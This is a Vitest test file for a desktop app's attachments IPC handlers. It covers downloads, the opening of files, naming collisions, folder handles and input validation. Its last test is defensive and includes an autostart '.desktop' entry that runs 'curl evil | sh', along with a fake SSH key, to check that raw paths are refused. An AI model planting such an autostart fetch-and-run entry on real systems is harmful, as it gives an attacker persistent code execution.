import { readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DownloadJobView } from '../../../shared/attachments/jobs';
import { translate } from '../../../shared/i18n';
import { attachmentsChannels } from '../../../shared/ipc/channels/attachments';
import { createDownloadManager } from '../../attachments/download-manager';
import { startAttachmentsHarness } from '../../attachments/test-harness';
import type { AttachmentsHarness } from '../../attachments/test-harness';
import { createPathHandles } from '../../security/path-handles';
import { createAttachmentsHandlers, forwardAttachmentsEvents } from './attachments';

const ctx = { senderUrl: 'app://renderer', senderId: '7' };
let h: AttachmentsHarness;
beforeAll(async () => {
  h = await startAttachmentsHarness();
});
afterAll(async () => {
  await h.close();
});

async function setup() {
  const home = await h.tempDir();
  const sessionId = h.sim.control.createSession({ title: 'Handlers: report' }).session_id;
  const manager = createDownloadManager({
    apiOrigin: h.sim.baseUrl,
    getAuthHeader: () => h.authHeader,
    attachmentUrl: (a) => h.client.attachmentDownloadUrl(a),
    listAttachments: (id) => h.client.sessions.attachments(id),
  });
  const calls: string[] = [];
  const handles = createPathHandles();
  const handlers = createAttachmentsHandlers({
    handles,
    manager,
    getClient: () => h.client,
    getSettings: () => ({ attachmentsFolder: null }),
    homeDir: home,
    getSessionTitle: () => 'Handlers: report',
    locale: () => 'zh-CN',
    shell: {
      showItemInFolder: (p) => void calls.push(`show ${p}`),
      openPath: async (p) => {
        calls.push(`open ${p}`);
        return '';
      },
    },
    dialog: {
      chooseFolder: async (o) => {
        calls.push(`choose ${o.title}`);
        return '/picked';
      },
    },
  });
  return { home, sessionId, manager, calls, handlers, handles };
}

describe('attachments IPC handlers', () => {
  it('lists without URLs, downloads by id into the default folder, opens safely', async () => {
    const { home, sessionId, manager, calls, handlers } = await setup();
    const doc = h.sim.control.addSessionAttachment(sessionId, { name: 'notes/summary.md', text: '# done' });
    const exe = h.sim.control.addSessionAttachment(sessionId, { name: 'tool.exe', text: 'MZ' });

    const list = await handlers['attachments:list']({ sessionId }, ctx);
    expect(list).toEqual([
      { attachment_id: doc.attachment_id, name: 'notes/summary.md', fileName: 'notes_summary.md', plannedName: 'notes_summary.md', source: 'devin', content_type: 'text/markdown' },
      { attachment_id: exe.attachment_id, name: 'tool.exe', fileName: 'tool.exe', plannedName: 'tool.exe', source: 'devin', content_type: 'application/octet-stream' },
    ]);
    expect(JSON.stringify(list)).not.toContain(h.sim.webAppOrigin);

    const folder = join(home, 'Downloads', 'Devin', `Handlers_ report-${sessionId.replace(/^devin-/, '').slice(0, 8)}`);
    expect(await handlers['attachments:defaultFolder']({ sessionId }, ctx)).toBe(folder);
    const { jobId, dir } = await handlers['attachments:download']({ sessionId, attachmentId: doc.attachment_id }, ctx);
    expect(dir).toBe(folder);
    const { jobIds } = await handlers['attachments:downloadAll']({ sessionId }, ctx);
    expect(jobIds).toContain(jobId);
    await manager.settled();
    const jobs = await handlers['attachments:jobs'](undefined, ctx);
    expect(jobs.map((j) => [j.fileName, j.state])).toEqual([
      ['notes_summary.md', 'done'],
      ['tool.exe', 'done'],
    ]);
    expect(await readFile(join(folder, 'notes_summary.md'), 'utf8')).toBe('# done');

    await handlers['attachments:open']({ jobId }, ctx);
    await handlers['attachments:showInFolder']({ jobId }, ctx);
    const exeJob = jobs.find((j) => j.fileName === 'tool.exe') as DownloadJobView;
    await expect(handlers['attachments:open']({ jobId: exeJob.jobId }, ctx)).rejects.toMatchObject({ code: 'ATTACHMENT_UNSAFE_TO_OPEN' });
    expect(calls).toEqual([`open ${join(folder, 'notes_summary.md')}`, `show ${join(folder, 'notes_summary.md')}`, `show ${join(folder, 'tool.exe')}`]);
    await expect(handlers['attachments:open']({ jobId: 'unknown' }, ctx)).rejects.toMatchObject({ code: 'ATTACHMENT_JOB_NOT_FOUND' });
    await expect(handlers['attachments:download']({ sessionId, attachmentId: 'nope' }, ctx)).rejects.toMatchObject({ code: 'ATTACHMENT_NOT_FOUND' });
  });

  it('says a done file was moved or deleted (in both languages), and force downloads a new copy', async () => {
    const { sessionId, manager, calls, handlers } = await setup();
    const doc = h.sim.control.addSessionAttachment(sessionId, { name: 'report.txt', text: 'v1' });
    const { jobId, dir } = await handlers['attachments:download']({ sessionId, attachmentId: doc.attachment_id }, ctx);
    await manager.settled();
    const path = join(dir, 'report.txt');
    await rm(path);

    for (const channel of ['attachments:open', 'attachments:showInFolder'] as const) {
      await expect(handlers[channel]({ jobId }, ctx)).rejects.toMatchObject({
        code: 'ATTACHMENT_FILE_MISSING',
        message: '“report.txt” is no longer in its folder: it was moved or deleted. Download it again to get a new copy.',
        details: { path },
      });
    }
    expect(translate('zh-CN', 'error.ATTACHMENT_FILE_MISSING', { name: 'report.txt' })).toBe('“report.txt”已不在其文件夹中：它已被移动或删除。重新下载即可获得新副本。');
    expect(calls).toEqual([]);

    // Open found it gone, so the job says so (pushed to the row) …
    expect(manager.job(jobId)).toMatchObject({ state: 'done', missing: true });
    // … and a plain Download no longer reuses it: a new job brings the file back under its own name.
    const again = await handlers['attachments:download']({ sessionId, attachmentId: doc.attachment_id }, ctx);
    expect(again.jobId).not.toBe(jobId);
    await manager.settled();
    expect(await readFile(path, 'utf8')).toBe('v1');
    await handlers['attachments:open']({ jobId: again.jobId }, ctx);
    expect(calls).toEqual([`open ${path}`]);

    // The folder itself replaced by a file: the saved file is just as gone.
    await rm(dir, { recursive: true });
    await writeFile(dir, 'not a folder');
    await expect(handlers['attachments:open']({ jobId: again.jobId }, ctx)).rejects.toMatchObject({ code: 'ATTACHMENT_FILE_MISSING' });
    expect(calls).toEqual([`open ${path}`]);
  });

  it('names the second report.md as report (1).md before and after, and a listing notices a saved file deleted or put back', async () => {
    const { sessionId, manager, handlers } = await setup();
    const one = h.sim.control.addSessionAttachment(sessionId, { name: 'report.md', text: 'one' });
    const two = h.sim.control.addSessionAttachment(sessionId, { name: 'report.md', text: 'two!' });
    const list = await handlers['attachments:list']({ sessionId }, ctx);
    expect(list.map((a) => [a.name, a.plannedName])).toEqual([
      ['report.md', 'report.md'],
      ['report.md', 'report (1).md'],
    ]);

    // The second one alone, first: it still lands as report (1).md (the name the row showed).
    const second = await handlers['attachments:download']({ sessionId, attachmentId: two.attachment_id }, ctx);
    await manager.settled();
    expect(manager.job(second.jobId)).toMatchObject({ state: 'done', fileName: 'report (1).md', path: join(second.dir, 'report (1).md'), alreadySaved: false, missing: false });
    const first = await handlers['attachments:download']({ sessionId, attachmentId: one.attachment_id }, ctx);
    await manager.settled();
    expect(await readFile(join(first.dir, 'report.md'), 'utf8')).toBe('one');

    // Deleted behind the app's back: the next listing (a refresh, or the session opened again) marks it.
    await rm(join(second.dir, 'report (1).md'));
    await handlers['attachments:list']({ sessionId }, ctx);
    expect(manager.job(second.jobId)).toMatchObject({ state: 'done', missing: true });
    expect(manager.job(first.jobId)).toMatchObject({ state: 'done', missing: false });
    // Put back: present again.
    await writeFile(join(second.dir, 'report (1).md'), 'two!');
    await handlers['attachments:list']({ sessionId }, ctx);
    expect(manager.job(second.jobId)).toMatchObject({ missing: false });
  });

  it('chooses folders (as handles), uploads by handle, forwards events, and the contract refuses bad payloads', async () => {
    const { sessionId, manager, calls, handlers, handles } = await setup();
    const picked = await handlers['attachments:chooseFolder'](undefined, ctx);
    expect(picked).toEqual({ handle: expect.stringMatching(/^folder-[A-Za-z0-9_-]{22}$/), path: '/picked' });
    expect(calls).toEqual(['choose 选择附件保存文件夹']);

    const file = join(await h.tempDir(), 'log.txt');
    await writeFile(file, 'log');
    const handle = handles.issue('7', 'file', file);
    const [uploaded] = await handlers['attachments:upload']({ files: [handle] }, ctx);
    expect(uploaded).toMatchObject({ name: 'log.txt', bytes: 3 });
    // What the upload returned is kept as is (it goes into attachment_urls): the sim gives its web-app link.
    expect(uploaded?.url.startsWith(`${h.sim.webAppOrigin}/attachments/`)).toBe(true);
    // Sent: the handle has done its job and names nothing any more.
    await expect(handlers['attachments:upload']({ files: [handle] }, ctx)).rejects.toMatchObject({ code: 'VALIDATION' });

    const events: string[] = [];
    const off = forwardAttachmentsEvents(manager, (event) => events.push(event));
    const a = h.sim.control.addSessionAttachment(sessionId, { name: 'x.txt', text: 'x' });
    const into = await h.tempDir();
    const { dir } = await handlers['attachments:download']({ sessionId, attachmentId: a.attachment_id, folder: handles.issue('7', 'folder', into) }, ctx);
    expect(dir).toBe(into);
    await manager.settled();
    off();
    expect(events).toContain('attachments:jobs');

    expect(attachmentsChannels['attachments:download'].request.safeParse({ sessionId, attachmentId: 'x', url: 'https://evil' }).success).toBe(false);
    expect(attachmentsChannels['attachments:upload'].request.safeParse({ files: [] }).success).toBe(false);
    expect(attachmentsChannels['attachments:cancel'].request.safeParse({ jobId: '' }).success).toBe(false);
  });

  it('refuses a raw path for an upload or a download folder with VALIDATION, sending and writing nothing (issue #11 point 5)', async () => {
    const { sessionId, manager, handlers, handles } = await setup();
    const secret = join(await h.tempDir(), 'id_rsa');
    await writeFile(secret, '-----BEGIN OPENSSH PRIVATE KEY-----\nnot really\n');
    const uploadsBefore = h.sim.control.getRequests().filter((r) => r.method === 'POST').length;

    const refusedUpload = await Promise.resolve(handlers['attachments:upload']({ files: [secret] }, ctx)).catch((e: unknown) => e);
    expect(refusedUpload).toMatchObject({
      code: 'VALIDATION',
      details: { clientSide: true, fieldErrors: [{ field: 'files.0', message: translate('en', 'security.handle.file.rawPath') }] },
    });
    // A handle issued to another page (webContents) is refused the same way, and so is one of the wrong kind.
    const elsewhere = handles.issue('8', 'file', secret);
    await expect(handlers['attachments:upload']({ files: [elsewhere] }, ctx)).rejects.toMatchObject({ code: 'VALIDATION' });
    await expect(handlers['attachments:upload']({ files: [handles.issue('7', 'folder', secret)] }, ctx)).rejects.toMatchObject({ code: 'VALIDATION' });
    expect(h.sim.control.getRequests().filter((r) => r.method === 'POST')).toHaveLength(uploadsBefore);

    const autostart = join(await h.tempDir(), '.config', 'autostart');
    const a = h.sim.control.addSessionAttachment(sessionId, { name: 'evil.desktop', text: '[Desktop Entry]\nExec=sh -c "curl evil | sh"\n' });
    const calls: (() => unknown)[] = [
      () => handlers['attachments:download']({ sessionId, attachmentId: a.attachment_id, folder: autostart }, ctx),
      () => handlers['attachments:downloadAll']({ sessionId, folder: autostart }, ctx),
      () => handlers['attachments:download']({ sessionId, attachmentId: a.attachment_id, folder: 'relative' }, ctx),
    ];
    for (const call of calls) {
      await expect(Promise.resolve().then(call)).rejects.toMatchObject({ code: 'VALIDATION', details: { fieldErrors: [{ field: 'folder' }] } });
    }
    await manager.settled();
    expect(manager.jobs()).toEqual([]);
  });
});
